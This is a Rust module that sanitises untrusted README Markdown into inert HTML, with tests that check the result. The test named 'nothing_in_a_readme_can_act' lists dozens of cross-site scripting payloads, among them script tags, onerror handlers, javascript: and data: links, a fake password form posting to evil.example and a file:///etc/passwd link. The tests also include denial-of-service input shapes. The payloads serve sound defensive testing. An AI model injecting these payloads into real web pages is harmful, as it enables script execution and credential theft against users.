//! Markdown of others as HTML that cannot act: no script, no style, no remote image, no form, no frame.
//!
//! In: a README or control page (Markdown, perhaps hostile). Out: [`Rendered`], safe to place in a page.
//! Two independent layers: the Markdown reader drops raw HTML and this file rewrites links and images in
//! its tree; then an allow-list of elements and attributes passes over the result.
//! Spec: CommonMark 0.31, GFM 0.29.

use std::borrow::Cow;
use std::collections::HashSet;
use std::fmt;
use std::sync::{LazyLock, Mutex, PoisonError};

use ammonia::{Builder, UrlRelative};
use comrak::adapters::{HeadingAdapter, HeadingMeta};
use comrak::nodes::{AstNode, NodeLink, NodeValue, Sourcepos};
use comrak::options::Plugins;
use comrak::{Anchorizer, Arena, Node, Options, format_html_with_plugins, parse_document};

use super::link::web_url;
use super::text::visible_markdown;

/// Limits on what is rendered.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Limits {
    /// Longest source that is read; the rest is left out.
    pub(crate) source_bytes_max: usize,
    /// Longest HTML that is given.
    pub(crate) html_bytes_max: usize,
    /// Deepest nesting that is kept.
    pub(crate) depth_max: usize,
}

impl Limits {
    /// For a page with little room.
    pub(crate) fn excerpt(html_bytes_max: usize) -> Self {
        Self { source_bytes_max: html_bytes_max, html_bytes_max, depth_max: 24 }
    }

    /// For a page of its own.
    pub(crate) const WHOLE: Self = Self { source_bytes_max: 512 << 10, html_bytes_max: 2 << 20, depth_max: 24 };
}

/// Safe HTML.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub(crate) struct Rendered {
    html: String,
    /// Whether something was left out for its length.
    pub(crate) cut: bool,
}

impl Rendered {
    /// The HTML, sanitised.
    pub(crate) fn html(&self) -> &str {
        &self.html
    }

    /// Whether there is nothing to show.
    pub(crate) fn is_empty(&self) -> bool {
        self.html.trim().is_empty()
    }
}

/// Most cells of all tables; texts with more show their tables as they are written.
const CELLS_COUNT_MAX: usize = 50_000;
/// In front of every id, so that a README cannot take the place of an element of ours.
const ID_PREFIX: &str = "readme-";
/// Headings of a README stand below the page's own two levels.
const HEADING_SHIFT: u8 = 2;

/// Renders a page of ours, which stands directly below the page's title.
pub(crate) fn render_own(source: &str) -> Rendered {
    let rendered = render(source, Limits::WHOLE);
    let html =
        rendered.html.replace("<h4", "<h2").replace("</h4>", "</h2>").replace("<h5", "<h3").replace("</h5>", "</h3>");
    Rendered { html, ..rendered }
}

/// Renders Markdown of a publisher.
pub(crate) fn render(source: &str, limits: Limits) -> Rendered {
    // 1. As much of the source as is read, ending at a line; nothing invisible in it.
    let (kept, mut cut) = head(source, limits.source_bytes_max);
    let text = visible_markdown(kept);
    let options = options(cells_count(&text) <= CELLS_COUNT_MAX);
    // 2. Fewer blocks until the HTML fits.
    let mut bytes_max = usize::MAX;
    loop {
        let (html, blocks_left_out) = render_once(&text, &options, limits.depth_max, bytes_max);
        cut |= blocks_left_out;
        if html.len() <= limits.html_bytes_max {
            return Rendered { html, cut };
        }
        // As much less as it was too long, and a little less again: blocks differ.
        bytes_max = bytes_max.min(text.len()) * (limits.html_bytes_max / 1_024) / (html.len() / 1_024 + 1) * 9 / 10;
        if bytes_max == 0 {
            return Rendered { html: String::new(), cut: true };
        }
    }
}

/// The first bytes of a text, up to the last whole line; whether something is missing.
fn head(source: &str, bytes_max: usize) -> (&str, bool) {
    if source.len() <= bytes_max {
        return (source, false);
    }
    let end = source.floor_char_boundary(bytes_max);
    let line_end = source[..end].rfind('\n').map_or(end, |at| at + 1);
    (&source[..line_end], true)
}

/// Most cells that tables of a text could have: rows are filled up to the width of their table, so a few
/// bytes in each row would make thousands of elements. No table reaches over an empty line.
fn cells_count(text: &str) -> usize {
    let (mut total, mut rows, mut columns) = (0_usize, 0_usize, 0_usize);
    for line in text.lines().chain([""]) {
        if line.trim().is_empty() {
            total = total.saturating_add(rows.saturating_mul(columns));
            (rows, columns) = (0, 0);
        } else if rows > 0 || line.contains('|') {
            rows += 1;
            columns = columns.max(line.matches('|').count() + 1);
        }
    }
    total
}

fn render_once(text: &str, options: &Options<'_>, depth_max: usize, bytes_max: usize) -> (String, bool) {
    let arena = Arena::new();
    let root = parse_document(&arena, text, options);
    let mut cut = keep_first_blocks(root, text, bytes_max);
    cut |= flatten(root, depth_max);
    rewrite(&arena, root);
    let headings = Headings::default();
    let mut plugins = Plugins::default();
    plugins.render.heading_adapter = Some(&headings);
    let mut html = String::new();
    if format_html_with_plugins(root, options, &mut html, &plugins).is_err() {
        return (String::new(), true);
    }
    (scrollable(&SANITIZER.clean(&html).to_string()), cut)
}

fn options(tables: bool) -> Options<'static> {
    let mut options = Options::default();
    options.extension.table = tables;
    options.extension.strikethrough = true;
    options.extension.autolink = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    options.render.r#unsafe = false;
    options
}

/// Takes away the blocks that begin behind a number of bytes of the source.
fn keep_first_blocks<'a>(root: Node<'a>, text: &str, bytes_max: usize) -> bool {
    let mut line_ends = Vec::new();
    let mut end = 0;
    for line in text.split_inclusive('\n') {
        end += line.len();
        line_ends.push(end);
    }
    let too_far = |node: &&'a AstNode<'a>| {
        let last_line = node.data.borrow().sourcepos.end.line;
        line_ends.get(last_line.saturating_sub(1)).copied().unwrap_or(end) > bytes_max
    };
    let blocks: Vec<Node<'a>> = root.children().skip_while(|node| !too_far(node)).collect();
    for node in &blocks {
        node.detach();
    }
    !blocks.is_empty()
}

/// Takes away what is nested deeper than allowed.
fn flatten<'a>(root: Node<'a>, depth_max: usize) -> bool {
    let mut level = vec![root];
    for _ in 0..depth_max {
        level = level.iter().flat_map(|node| node.children()).collect();
    }
    let deepest: Vec<Node<'a>> = level.iter().flat_map(|node| node.children()).collect();
    for node in &deepest {
        node.detach();
    }
    !deepest.is_empty()
}

/// Images become links, since showing them would tell a stranger who reads; nothing raw is kept.
fn rewrite<'a>(arena: &'a Arena<'a>, root: Node<'a>) {
    let nodes: Vec<Node<'a>> = root.descendants().collect();
    for node in nodes {
        let value = node.data.borrow().value.clone();
        match value {
            NodeValue::Image(image) => image_to_link(arena, node, &image),
            NodeValue::HtmlBlock(_) | NodeValue::HtmlInline(_) | NodeValue::Raw(_) => node.detach(),
            _ => {}
        }
    }
}

/// The description of an image, as a link to it unless it stands in a link already.
fn image_to_link<'a>(arena: &'a Arena<'a>, node: Node<'a>, image: &NodeLink) {
    let linked = node.ancestors().skip(1).any(|a| matches!(a.data.borrow().value, NodeValue::Link(_)));
    let url = web_url(&image.url).filter(|_| !linked);
    if node.first_child().is_none() {
        node.append(arena.alloc(AstNode::from(NodeValue::Text("image".into()))));
    }
    node.data.borrow_mut().value = match url {
        Some(url) => NodeValue::Link(Box::new(NodeLink { url: url.into(), title: String::new() })),
        None => NodeValue::Emph,
    };
}

/// Headings stand below the page's own and have ids that links within the text lead to.
#[derive(Default)]
struct Headings(Mutex<Anchorizer>);

impl HeadingAdapter for Headings {
    fn enter(&self, out: &mut dyn fmt::Write, heading: &HeadingMeta, _place: Option<Sourcepos>) -> fmt::Result {
        let anchor = self.0.lock().unwrap_or_else(PoisonError::into_inner).anchorize(&heading.content);
        write!(out, "<h{} id=\"", level(heading))?;
        comrak::html::escape(out, &anchor)?;
        out.write_str("\">")
    }

    fn exit(&self, out: &mut dyn fmt::Write, heading: &HeadingMeta) -> fmt::Result {
        writeln!(out, "</h{}>", level(heading))
    }
}

fn level(heading: &HeadingMeta) -> u8 {
    (heading.level + HEADING_SHIFT).min(6)
}

/// Everything that may be in the result.
static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let tags = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "h3",
        "h4",
        "h5",
        "h6",
        "hr",
        "input",
        "li",
        "ol",
        "p",
        "pre",
        "section",
        "strong",
        "sup",
        "table",
        "tbody",
        "td",
        "th",
        "thead",
        "tr",
        "ul",
    ];
    let attributes = [
        ("a", &["href", "id"][..]),
        ("h3", &["id"]),
        ("h4", &["id"]),
        ("h5", &["id"]),
        ("h6", &["id"]),
        ("li", &["id"]),
        ("ol", &["start"]),
        ("input", &["type", "checked", "disabled"]),
        ("td", &["align"]),
        ("th", &["align"]),
    ];
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(tags))
        .clean_content_tags(HashSet::from(["script", "style"]))
        .tag_attributes(attributes.into_iter().map(|(tag, names)| (tag, names.iter().copied().collect())).collect())
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::PassThrough)
        .attribute_filter(attribute)
        .link_rel(Some("nofollow noopener noreferrer ugc"))
        .strip_comments(true)
        .id_prefix(Some(ID_PREFIX));
    builder
});

/// The last word on each attribute.
fn attribute<'v>(element: &str, name: &str, value: &'v str) -> Option<Cow<'v, str>> {
    match (element, name) {
        ("a", "href") => href(value).map(Cow::Owned),
        ("input", "type") => (value == "checkbox").then_some(Cow::Borrowed(value)),
        _ => Some(Cow::Borrowed(value)),
    }
}

/// Within the text, to the web, or to a mailbox; files of the bundle are not served.
fn href(value: &str) -> Option<String> {
    if let Some(anchor) = value.strip_prefix('#') {
        return Some(format!("#{ID_PREFIX}{anchor}"));
    }
    let mailbox = value.starts_with("mailto:") && !value.contains(['?', '\n']);
    if mailbox { Some(value.to_owned()) } else { web_url(value).map(Into::into) }
}

/// What may be wider than the page scrolls on its own, with the keyboard too. Text of the README cannot
/// hold these tags: there `<` is `&lt;`.
fn scrollable(html: &str) -> String {
    html.replace("<table>", "<div class=\"scroll\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table>")
        .replace("</table>", "</table></div>")
        .replace("<pre>", "<pre tabindex=\"0\">")
        .replace("<input ", "<input aria-label=\"Task\" ")
}

#[cfg(test)]
mod tests {
    use std::time::{Duration, Instant};

    use super::*;

    const EXCERPT: Limits = Limits { source_bytes_max: 16 << 10, html_bytes_max: 16 << 10, depth_max: 24 };

    fn whole(source: &str) -> String {
        render(source, Limits::WHOLE).html().to_owned()
    }

    #[test]
    fn tables_that_would_be_filled_up_to_thousands_of_cells_are_shown_as_written() {
        let table = |columns: usize, rows: usize| {
            format!("{}|\n{}|\n{}", "|a".repeat(columns), "|-".repeat(columns), "|b\n".repeat(rows))
        };
        let usual = render(&table(10, 500), Limits::WHOLE);
        assert_eq!(usual.html().matches("<td>").count(), 5_000);
        let bomb = render(&table(2_000, 2_000), Limits::WHOLE);
        assert!(!bomb.html().contains("<td>"));
        assert!(bomb.html().contains("|b"));
        // An empty line ends a table, so many small ones stay.
        let many = render(&format!("{}\n", table(10, 10)).repeat(300), Limits::WHOLE);
        assert_eq!(many.html().matches("<table>").count(), 300);
    }

    #[test]
    fn ordinary_markdown_is_rendered() {
        let html = whole(
            "# Title\n\nSome *text* with `code` and [a link](https://a.example/x).\n\n- [x] done\n\n|a|b|\n|-|-|\n|1|2|\n\n```rust\nfn main() {}\n```\n",
        );
        for part in [
            "<h3 id=\"readme-title\">Title</h3>",
            "<em>text</em>",
            "<code>code</code>",
            "href=\"https://a.example/x\"",
            "rel=\"nofollow noopener noreferrer ugc\"",
            "<div class=\"scroll\" tabindex=\"0\" role=\"region\" aria-label=\"Table\"><table>",
            "type=\"checkbox\"",
            "<pre tabindex=\"0\"><code>fn main() {}",
        ] {
            assert!(html.contains(part), "{part} in {html}");
        }
    }

    #[test]
    fn nothing_in_a_readme_can_act() {
        let cases = [
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<img src=x onerror=alert(1)>",
            "<svg onload=alert(1)><script>alert(1)</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<style>body{display:none}</style>",
            "<p style=\"position:fixed\">x</p>",
            "<iframe src=\"javascript:alert(1)\"></iframe>",
            "<object data=\"data:text/html,x\"></object>",
            "<form action=\"https://evil.example\"><input name=password><button>Sign in</button></form>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<!-- <script>alert(1)</script> -->",
            "<!--><img src=x onerror=alert(1)>-->",
            "<details open ontoggle=alert(1)>x</details>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#10;script:alert(1))",
            "[x](&#106;avascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](vbscript:x)",
            "[x](file:///etc/passwd)",
            "![x](javascript:alert(1))",
            "![x](data:image/svg+xml,<svg onload=alert(1)>)",
            "![x](https://evil.example/pixel.gif)",
            "![x](//evil.example/pixel.gif)",
            "<javascript:alert(1)>",
            "[x]: javascript:alert(1)\n\n[x]",
            "[x](https://a.example \"\\\" onmouseover=alert(1) \")",
            "```\"><script>alert(1)</script>\nx\n```",
            "# x\" onclick=\"alert(1)",
            "# <img src=x onerror=alert(1)>",
            "[^1]\n\n[^1]: <script>alert(1)</script>",
            "[^\"><script>]\n\n[^\"><script>]: x",
            "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
            "`</code><script>alert(1)</script>`",
            "https://a.example/\"onmouseover=alert(1)",
        ];
        for case in cases {
            let html = whole(case).to_lowercase();
            // Tags only: escaped text (`&lt;script`) is harmless and stays.
            for tag in [
                "script", "img", "svg", "math", "style", "iframe", "object", "form", "button", "base", "meta", "link",
                "details",
            ] {
                assert!(!html.contains(&format!("<{tag}")), "{tag} in {html} from {case}");
            }
            assert!(!html.contains("<!--"), "comment in {html}");
            for tag in html.split('<').skip(1).filter_map(|t| t.split('>').next()) {
                // Everything between quotes is a value; what is left are names.
                let names: String = tag.split('"').step_by(2).collect();
                assert!(
                    !names.contains(" on") && !names.contains("style=") && !names.contains("src="),
                    "{tag} from {case}"
                );
                assert!(
                    !tag.contains("script:") && !tag.contains("data:") && !tag.contains("file:"),
                    "{tag} from {case}"
                );
            }
        }
    }

    #[test]
    fn relative_links_lose_their_target_and_keep_their_text() {
        let html = whole("[guide](docs/guide.md) [up](../../x) [root](/admin/delete) [proto](//evil.example/)");
        assert!(!html.contains("href"), "{html}");
        for text in ["guide", "up", "root", "proto"] {
            assert!(html.contains(text), "{text}");
        }
    }

    #[test]
    fn remote_images_become_links() {
        let html = whole(
            "![A diagram](https://a.example/d.png)\n\n![](https://a.example/e.png)\n\n[![build](https://ci.example/b.svg)](https://ci.example/)\n\n![local](img/x.png)",
        );
        assert!(!html.contains("<img"));
        assert!(html.contains("href=\"https://a.example/d.png\""), "{html}");
        assert!(html.contains(">A diagram</a>"), "{html}");
        assert!(html.contains(">image</a>"), "{html}");
        assert!(html.contains("<a href=\"https://ci.example/\""), "{html}");
        assert!(!html.contains("b.svg"), "an image in a link keeps the link only: {html}");
        assert!(html.contains("<em>local</em>"), "{html}");
    }

    #[test]
    fn ids_cannot_take_the_place_of_ours() {
        let html = whole("# trust\n\n# trust\n\n[to](#trust)\n\nnote[^main]\n\n[^main]: text");
        assert!(html.contains("id=\"readme-trust\"") && html.contains("id=\"readme-trust-1\""), "{html}");
        assert!(html.contains("href=\"#readme-trust\""), "{html}");
        for id in html.split("id=\"").skip(1) {
            assert!(id.starts_with(ID_PREFIX), "{id}");
        }
        let target = html.split("href=\"#").nth(2).and_then(|h| h.split('"').next()).unwrap();
        assert!(html.contains(&format!("id=\"{target}\"")), "the footnote's link leads somewhere: {html}");
    }

    #[test]
    fn direction_changing_characters_are_spelled_out() {
        let html = whole("run `safe\u{202E}sj.exe` now\u{200B}");
        assert!(html.contains("safe[U+202E]sj.exe") && html.contains("now[U+200B]"), "{html}");
    }

    #[test]
    fn an_excerpt_fits_and_says_that_it_is_one() {
        let long = "A paragraph of some length, with a [link](https://a.example/).\n\n".repeat(4_000);
        let excerpt = render(&long, EXCERPT);
        assert!(excerpt.cut && !excerpt.is_empty());
        assert!(excerpt.html().len() <= EXCERPT.html_bytes_max);
        assert!(excerpt.html().ends_with("</p>\n"), "ends with a whole block");
        assert!(!render("short", EXCERPT).cut);
    }

    #[test]
    fn hostile_shapes_end_soon_and_small() {
        let size = 512 << 10;
        let shapes = [
            ">".repeat(size),
            "> ".repeat(size / 2),
            "[".repeat(size),
            "![".repeat(size / 2),
            "[a](".repeat(size / 4),
            "*a ".repeat(size / 3),
            "**a*".repeat(size / 4),
            "_".repeat(size),
            "`".repeat(size),
            "<".repeat(size),
            "<a>".repeat(size / 3),
            "<!--".repeat(size / 4),
            "- ".repeat(size / 2),
            (0..900).map(|i| "  ".repeat(i) + "- x\n").collect(),
            "|".repeat(size),
            format!("{}\n{}\n", "|a".repeat(size / 8), "|-".repeat(size / 8)),
            format!("|a|b|\n|-|-|\n{}", "|\n".repeat(size / 4)),
            "[^a]: x\n".repeat(size / 8),
            "[a]: https://a.example/\n[a]\n".repeat(size / 30),
            "# x\n".repeat(size / 4),
            "https://a.b ".repeat(size / 12),
            "a@b.c ".repeat(size / 6),
            "~~a".repeat(size / 3),
            "&#".repeat(size / 2),
            "\\".repeat(size),
            "\u{202E}".repeat(size / 3),
            "```\n".repeat(size / 4),
            "x".repeat(size),
        ];
        for shape in shapes {
            for limits in [EXCERPT, Limits::WHOLE] {
                let start = Instant::now();
                let rendered = render(&shape, limits);
                let name: String = shape.chars().take(12).collect();
                assert!(rendered.html().len() <= limits.html_bytes_max, "{name}");
                assert!(start.elapsed() < Duration::from_secs(10), "{name} took {:?}", start.elapsed());
            }
        }
    }
}
